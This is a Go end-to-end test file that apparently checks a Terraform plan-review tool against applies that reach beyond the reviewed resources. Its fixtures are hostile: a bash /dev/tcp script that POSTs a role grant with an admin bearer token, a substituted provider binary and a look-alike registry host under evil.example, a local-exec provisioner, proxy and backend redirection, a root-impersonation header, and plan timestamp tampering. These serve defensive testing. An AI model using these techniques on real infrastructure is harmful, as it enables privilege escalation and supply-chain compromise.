package e2e

import (
	"archive/zip"
	"bytes"
	"cmp"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
)

// reach is a shell script that grants a role in the second service.
const reach = `exec 3<>/dev/tcp/%s
printf 'POST /core/v1/acme/profiles/p-anna-hq/authorizations/ HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer demo-admin-token\r\n' >&3
printf 'Content-Type: application/json\r\nConnection: close\r\nContent-Length: 25\r\n\r\n{"roleExtId":"crm-admin"}' >&3
cat <&3 >/dev/null
`

// reaching writes a program that grants a role in the second service once it is armed.
func (h *hiding) reaching(name, more string) {
	h.t.Helper()
	needs(h.t, "bash")
	address := strings.Replace(strings.TrimPrefix(h.secondURL, "http://"), ":", "/", 1)
	armed := filepath.Join(h.folder, "armed")
	h.write(name, fmt.Sprintf("#!/usr/bin/env bash\nif [ -e %s ]; then\n"+reach+"fi\n%s\n", armed, address, more))
	if err := os.Chmod(filepath.Join(h.folder, name), 0o700); err != nil {
		h.t.Fatal(err)
	}
}

// functionsOnly installs a program in front of the provider of another host.
func (h *hiding) functionsOnly() {
	h.t.Helper()
	h.mirrored("evil.example")
	folder, err := binary()
	if err != nil {
		h.t.Fatal(err)
	}
	program := filepath.Join("mirror", "evil.example", "identity-iac", "idm", "0.1.0", runtime.GOOS+"_"+runtime.GOARCH,
		"terraform-provider-idm_v0.1.0")
	if err := os.Remove(filepath.Join(h.folder, program)); err != nil {
		h.t.Fatal(err)
	}
	h.reaching(program, "exec "+filepath.Join(folder, "terraform-provider-idm")+` "$@"`)
	h.write("main.tf", evilProvider)
}

// evilProvider also requires a provider of another host.
const evilProvider = `
terraform {
  required_providers {
    idm  = { source = "identity-iac/idm" }
    evil = { source = "evil.example/identity-iac/idm" }
  }
}
`

// stateServer stores a state over HTTP.
type stateServer struct {
	mu    sync.Mutex
	state []byte
}

func (s *stateServer) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if r.Method == http.MethodPost {
		s.state, _ = io.ReadAll(r.Body)
	}
	_, _ = w.Write(s.state)
}

func (s *stateServer) has(text string) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	return bytes.Contains(s.state, []byte(text))
}

// elsewhere stores the state on a server of another host.
func (h *hiding) elsewhere() *stateServer {
	h.t.Helper()
	s := &stateServer{}
	server := httptest.NewServer(s)
	h.t.Cleanup(server.Close)
	h.write("backend.tf", fmt.Sprintf("terraform {\n  backend \"http\" {\n    address = %q\n  }\n}\n", server.URL+"/state"))
	return s
}

// dated makes the files of a plan claim another time.
func (h *hiding) dated(claimed string) {
	h.t.Helper()
	var shown struct{ Timestamp string }
	if err := json.Unmarshal([]byte(h.read("reviewed.json")), &shown); err != nil || len(shown.Timestamp) != len(claimed) {
		h.t.Fatalf("the plan is of %q: %v", shown.Timestamp, err)
	}
	saved := []byte(h.read("reviewed.tfplan"))
	archive, err := zip.NewReader(bytes.NewReader(saved), int64(len(saved)))
	if err != nil {
		h.t.Fatal(err)
	}
	var changed bytes.Buffer
	out := zip.NewWriter(&changed)
	for _, file := range archive.File {
		in, err := file.Open()
		if err != nil {
			h.t.Fatal(err)
		}
		content, err := io.ReadAll(in)
		if err != nil {
			h.t.Fatal(err)
		}
		if file.Name == "tfplan" {
			content = bytes.ReplaceAll(content, []byte(shown.Timestamp), []byte(claimed))
		}
		entry, err := out.Create(file.Name)
		if err != nil {
			h.t.Fatal(err)
		}
		if _, err := entry.Write(content); err != nil {
			h.t.Fatal(err)
		}
	}
	if err := out.Close(); err != nil {
		h.t.Fatal(err)
	}
	h.write("reviewed.tfplan", changed.String())
	if h.write("reviewed.json", h.must(0, "show", "-json", "reviewed.tfplan")); !strings.Contains(h.read("reviewed.json"), claimed) {
		h.t.Fatal("the plan does not claim the time")
	}
}

// grantUntil declares a grant with an end for a profile.
func grantUntil(name, profile, end string) string {
	return strings.Replace(strings.Replace(attackGrant(name, "crm-admin"), "p-anna-hq", profile, 1), "\n}",
		"\n  validity = { to = \""+end+"\" }\n}", 1)
}

// localState stores the state in a file.
func localState(file string) string {
	return "terraform {\n  backend \"local\" {\n    path = \"" + file + "\"\n  }\n}\n"
}

// otherClient declares a person in another client of the same service.
const otherClient = `
provider "idm" {}
provider "idm" {
  alias         = "globex"
  client_ext_id = "globex"
}
resource "idm_client_application" "crm" {
  provider           = idm.globex
  application_ext_id = "crm"
}
resource "idm_user" "gina" {
  provider   = idm.globex
  ext_id     = "u-gina"
  login_id   = "gina"
  user_state = "active"
  name       = { family_name = "Gina" }
}
resource "idm_profile" "gina" {
  provider    = idm.globex
  ext_id      = "p-gina"
  user_ext_id = idm_user.gina.ext_id
}
`

// touching is a plan whose apply has effects beyond its resources.
type touching struct {
	// host is the host of the provider, and arrange prepares the folder.
	host          string
	arrange       func(*hiding)
	before, after string
	plan, apply   []string
	// claimed is the time that the plan claims.
	claimed string
	// rule and address are the expected finding; in the JSON the rule is unlisted if the JSON lacks
	// it.
	rule, address string
	savedOnly     bool
	// code is the exit code of the apply, gained and lost are its effects on the service, there are
	// the gains in the second service, and reached reports whether the second service is called.
	code                int
	gained, lost, there []string
	reached             bool
	// anything reports that the plan runs a program with arbitrary effects.
	anything bool
	// offline reviews without facts, because the plan does not show its service.
	offline bool
}

// An apply leaves each service that it calls within the bounds of the review, and calls only
// services that the review lists.
func TestReview_finalTouched(t *testing.T) {
	t.Parallel()
	crmAdmin := []string{"u-anna crm-admin"}
	for name, test := range map[string]touching{
		"nothing else": {after: attackUnit("")},
		"another service": {before: secondProvider + fmt.Sprintf(grantAt, "here", "idm"),
			after: secondProvider + fmt.Sprintf(grantAt, "there", "idm.second"),
			rule:  "service.address", lost: crmAdmin, there: crmAdmin, reached: true},
		"another client": {before: otherClient, after: otherClient +
			strings.Replace(fmt.Sprintf(grantAt, "gina", "idm.globex"), "p-anna-hq", "p-gina", 1),
			rule: "gain.role", gained: []string{"u-gina crm-admin"}},
		"a look-alike host": {host: "registry.terraform.io.evil.example", after: attackGrant("a", "crm-admin"), rule: "outside.provider",
			address: "registry.terraform.io.evil.example/identity-iac/idm", gained: crmAdmin, anything: true},
		"a provider of functions": {arrange: (*hiding).functionsOnly,
			after: "output \"id\" {\n  value = provider::evil::import_id(\"acme\", \"sales\")\n}\n" + attackUnit(""),
			rule:  "outside.provider", address: "evil.example/identity-iac/idm", there: crmAdmin, reached: true, anything: true},
		"a provider of the state": {arrange: func(h *hiding) {
			h.functionsOnly()
			h.write("main.tf", "")
		}, before: evilProvider + attackUnit("provider = evil"), after: moduleProvider + attackGrant("a", "crm-admin"),
			rule: "outside.provider", address: "evil.example/identity-iac/idm", gained: crmAdmin, there: crmAdmin, reached: true,
			anything: true},
		"a proxy": {after: "provider \"idm\" {\n  proxy_url = \"THERE\"\n}\n" + attackGrant("a", "crm-admin"), rule: "service.address",
			there: crmAdmin, reached: true, anything: true},
		"a provisioner": {arrange: func(h *hiding) { h.reaching("reach.sh", "") },
			after: attackUnit("provisioner \"local-exec\" {\n  command = \"./reach.sh\"\n}\n"),
			rule:  "outside.provisioner", address: "idm_unit.a",
			there: crmAdmin, reached: true, anything: true},
		"a state on another host": {arrange: func(h *hiding) {
			state := h.elsewhere()
			h.t.Cleanup(func() {
				if !state.has("attacked") {
					h.t.Error("the server has no state")
				}
			})
		}, after: attackUnit("") + attackGrant("a", "crm-admin"), rule: "outside.backend", savedOnly: true, gained: crmAdmin},
		"another state": {before: localState("first.tfstate") + benProfile("u-ben") +
			strings.Replace(grantUntil("ben", "p-ben", "2090-01-01T00:00:00Z"), `"p-ben"`, "idm_profile.ben.ext_id", 1),
			after: localState("other.tfstate") + attackGrant("a", "crm-admin"), rule: "outside.backend", savedOnly: true, gained: crmAdmin},
		"an ephemeral resource": {after: secondProvider + attackUnit("provider = idm") +
			"ephemeral \"idm_user_credentials\" \"x\" {\n  provider = idm.second\n  user_ext_id = \"u-anna\"\n}\n",
			rule: "outside.read", address: "ephemeral.idm_user_credentials.x", savedOnly: !openTofu(), reached: !openTofu()},
		"a data source of another service": {after: secondProvider + `
resource "terraform_data" "later" {}
data "idm_profile" "anna" {
  provider   = idm.second
  ext_id     = "p-anna-hq"
  depends_on = [terraform_data.later]
}
resource "idm_authorization" "a" {
  profile_ext_id = "p-anna-hq"
  role_ext_id    = data.idm_profile.anna.user_ext_id == "u-anna" ? "crm-admin" : "crm-reader"
}
`, rule: "outside.read", address: "data.idm_profile.anna", gained: crmAdmin, reached: true},
		"a login without rights": {after: "provider \"idm\" {\n  token = \"demo-reader-token\"\n}\n" + attackGrant("a", "crm-admin"),
			rule: "service.login", address: "idm", code: 1},
		"headers": {after: "provider \"idm\" {\n  headers = { X-Act-As = \"root\" }\n}\n" + attackGrant("a", "crm-admin"),
			rule: "service.login", address: "idm", gained: crmAdmin},
		"an address that the apply decides": {
			after: "variable \"address\" {\n  ephemeral = true\n}\nprovider \"idm\" {\n  base_url = var.address\n}\n" +
				attackGrant("a", "crm-admin"),
			plan: []string{"-var=address=HERE"}, apply: []string{"-var=address=THERE"}, rule: "service.address", address: "idm",
			there: crmAdmin, reached: true, offline: true},
		"a plan that claims a later time": {
			after:   grantUntil("a", "p-anna-hq", "2099-01-01T00:00:00Z"),
			claimed: "2100-01-01T00:00:00Z", rule: "gain.role", gained: crmAdmin},
		"a plan that claims an earlier time": {
			after:   grantUntil("a", "p-anna-hq", "2020-01-01T00:00:00Z"),
			claimed: "2019-01-01T00:00:00Z"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			inCorpus(t)
			test.run(newHiding(t))
		})
	}
}

func (of touching) run(h *hiding) {
	h.t.Helper()
	if of.offline {
		h.options = []string{"--offline"}
	}
	own := cmp.Or(os.Getenv("TF_ACC_PROVIDER_HOST"), "registry.terraform.io")
	h.mirrored(cmp.Or(of.host, own))
	if of.host != "" {
		h.write("main.tf", strings.Replace(moduleProvider, "identity-iac/idm", of.host+"/identity-iac/idm", 1))
	}
	if of.arrange != nil {
		of.arrange(h)
	}
	if of.before != "" {
		h.write("tenant.tf", of.before)
		h.must(0, "init", "-no-color")
		h.apply(of.before)
	}
	h.write("tenant.tf", h.placed(of.after)[0])
	h.must(0, "init", "-no-color", "-reconfigure")
	h.saved(h.placed(of.plan...)...)
	if of.claimed != "" {
		h.dated(of.claimed)
	}
	shown := map[string]reviewed{}
	for _, file := range planFiles {
		shown[file] = h.touches(file, of)
	}
	here, there := h.sim.State(), h.second.State()
	h.second.ClearRequests()
	h.write("armed", "")
	h.must(of.code, slices.Concat([]string{"apply", "-no-color"}, h.placed(of.apply...), []string{"reviewed.tfplan"})...)
	if reached := len(h.second.Requests()) > 0; reached != of.reached {
		h.t.Errorf("the apply reaches the second service %t, want %t", reached, of.reached)
	}
	end, endThere := final{factsOf(h.t, here), factsOf(h.t, h.sim.State())}, final{factsOf(h.t, there), factsOf(h.t, h.second.State())}
	gained, lost := end.difference()
	if !slices.Equal(gained, of.gained) || !slices.Equal(lost, of.lost) {
		h.t.Errorf("the apply gives %q and takes %q, want %q and %q", gained, lost, of.gained, of.lost)
	}
	if gained, lost = endThere.difference(); !slices.Equal(gained, of.there) || len(lost) > 0 {
		h.t.Errorf("at the second service, the apply gives %q and takes %q, want %q", gained, lost, of.there)
	}
	for file, found := range shown {
		if !of.anything {
			found.bounds().except(h.secondURL).contain(h.t, file, end, of.code == 0)
			found.bounds().at(h.secondURL).contain(h.t, file+" at the second service", endThere, of.code == 0)
		}
	}
}

// placed returns texts with the addresses of the two services inserted.
func (h *hiding) placed(texts ...string) []string {
	var found []string
	for _, text := range texts {
		found = append(found, strings.NewReplacer("THERE", h.secondURL, "HERE", h.url).Replace(text))
	}
	return found
}

// touches reviews a plan, and checks that all effects of the apply are listed and break the rules.
func (h *hiding) touches(file string, of touching) reviewed {
	h.t.Helper()
	rules, code, rule, address := []string{"access"}, 2, of.rule, of.address
	switch {
	case of.savedOnly && file == "reviewed.json", of.rule == "" && file == "reviewed.json":
		rule, address = "incomplete.unlisted", ""
	case of.rule == "":
		code = 0
	}
	if rule != "" {
		rules = append(rules, rule)
	}
	out, _ := h.review(code, file, "--fail-on", strings.Join(rules, ","), "--output", "json")
	shown := decodeReview(h.t, out)
	if len(shown.FailedRules) != len(rules) && code == 2 {
		h.t.Errorf("%s breaks %+v, want %q", file, shown.FailedRules, rules)
	}
	if rule != "" && !slices.ContainsFunc(shown.Findings, func(f finding) bool {
		return slices.Contains(f.Rules, rule) && (address == "" || about(f, address))
	}) {
		h.t.Errorf("%s: nothing at %q falls under %s: %+v", file, address, rule, shown.Findings)
	}
	return shown
}
